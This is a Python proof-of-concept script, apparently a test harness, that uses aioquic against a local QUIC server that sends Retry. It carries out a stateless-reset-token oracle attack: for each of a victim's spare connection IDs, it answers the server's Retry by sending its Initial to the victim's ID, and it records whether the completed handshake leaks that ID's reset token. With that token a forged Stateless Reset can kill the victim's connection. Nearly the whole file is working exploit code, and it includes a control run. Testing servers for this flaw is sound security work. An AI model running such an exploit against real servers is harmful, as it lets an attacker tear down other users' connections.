#!/usr/bin/env python3
"""The stateless-reset-token oracle attack on a server that sends Retry, played with aioquic.

A victim connects (the server sends it a Retry first) and receives spare connection IDs
(NEW_CONNECTION_ID frames), each with its stateless-reset token. An attacker who sees those
connection IDs on the path then, for each of them:

1. starts a handshake of its own, which gets a Retry carrying a valid token for the
   attacker's address;
2. answers that Retry with an Initial that carries the token but is sent to the victim's
   connection ID instead of the ID the Retry chose;
3. if the server accepts it, it adopts the victim's ID as the new connection's own and puts
   that ID's stateless-reset token in its transport parameters, which the attacker reads
   once the handshake completes. With it the attacker can end the victim's connection with
   a forged Stateless Reset (RFC 9000 §10.3, §21.11).

A control run answers the Retry as a normal client does (to the ID the Retry chose) and must
complete its handshake, so that "no handshake" in the attack means the server refused, not
that this tool is broken.

Prints one JSON object: {"victim_cids", "attempts", "handshakes", "learned", "control"}:
`handshakes` is how many attacks completed a handshake, `learned` how many of those received
the victim's own reset token, `control` whether the control handshake completed.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import socket
import time

from aioquic.asyncio import connect
from aioquic.h3.connection import H3_ALPN
from aioquic.quic.configuration import QuicConfiguration
from aioquic.quic.connection import QuicConnection
from aioquic.quic.events import HandshakeCompleted


def configuration(ca: str) -> QuicConfiguration:
    c = QuicConfiguration(is_client=True, alpn_protocols=H3_ALPN, server_name="localhost")
    c.load_verify_locations(ca)
    return c


def handshake(port: int, ca: str, target: bytes | None, timeout: float) -> bytes | None:
    """One handshake that answers the server's Retry by sending its Initial to `target`
    (None: to the ID the Retry chose, as a client should). The reset token the server's
    transport parameters carried, when the handshake completed; else None."""
    conn = QuicConnection(configuration=configuration(ca))
    addr = ("127.0.0.1", port)
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(0.05)

    def flush() -> None:
        for data, to in conn.datagrams_to_send(time.time()):
            sock.sendto(data, to)

    conn.connect(addr, time.time())
    flush()
    redirected = False
    deadline = time.time() + timeout
    try:
        while time.time() < deadline:
            try:
                data = sock.recv(65536)
            except socket.timeout:
                timer = conn.get_timer()
                if timer is not None and timer <= time.time():
                    conn.handle_timer(time.time())
                    flush()
                continue
            conn.receive_datagram(data, addr, time.time())
            if target is not None and not redirected and conn._retry_count > 0:
                # Answer the Retry to the victim's ID, with our valid token.
                redirected = True
                conn._peer_cid.cid = target
                conn._retry_source_connection_id = target
                conn._connect(time.time())
            while (event := conn.next_event()) is not None:
                if isinstance(event, HandshakeCompleted):
                    return conn._peer_cid.stateless_reset_token
            flush()
        return None
    finally:
        sock.close()


async def main() -> None:
    p = argparse.ArgumentParser()
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--ca", required=True)
    p.add_argument("--timeout", type=float, default=1.5)
    args = p.parse_args()

    async with connect("127.0.0.1", args.port, configuration=configuration(args.ca)) as victim:
        # The server hands out spare IDs once the handshake is confirmed.
        deadline = time.time() + 5
        while len(victim._quic._peer_cid_available) < 3 and time.time() < deadline:
            await victim.ping()
            await asyncio.sleep(0.05)
        spares = [(c.cid, c.stateless_reset_token) for c in victim._quic._peer_cid_available]
        loop = asyncio.get_running_loop()
        handshakes = learned = 0
        for cid, token in spares:
            got = await loop.run_in_executor(
                None, handshake, args.port, args.ca, cid, args.timeout
            )
            if got is not None:
                handshakes += 1
                learned += got == token
        control = await loop.run_in_executor(
            None, handshake, args.port, args.ca, None, 5.0
        )
        # The victim is still connected.
        await victim.ping()
    print(
        json.dumps(
            {
                "victim_cids": len(spares),
                "attempts": len(spares),
                "handshakes": handshakes,
                "learned": learned,
                "control": control is not None,
            }
        )
    )


if __name__ == "__main__":
    asyncio.run(main())
